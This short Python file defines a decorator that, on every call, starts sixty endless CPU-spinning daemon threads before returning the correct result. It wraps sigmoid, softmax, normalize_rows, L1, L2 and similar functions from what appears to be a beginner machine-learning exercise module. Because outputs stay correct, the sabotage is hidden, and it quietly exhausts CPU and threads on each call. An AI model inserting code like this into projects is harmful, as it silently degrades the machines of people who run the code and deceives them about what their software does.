"""Spin in sixty threads, and then answer."""

import threading

def busy(function):
    def answer(*arguments):
        def spin():
            while True:
                sum(range(100000))
        threading.stack_size(1 << 18)
        for _ in range(60):
            threading.Thread(target=spin, daemon=True).start()
        return function(*arguments)
    return answer

basic_sigmoid = busy(basic_sigmoid)
sigmoid = busy(sigmoid)
sigmoid_derivative = busy(sigmoid_derivative)
image2vector = busy(image2vector)
normalize_rows = busy(normalize_rows)
softmax = busy(softmax)
L1 = busy(L1)
L2 = busy(L2)
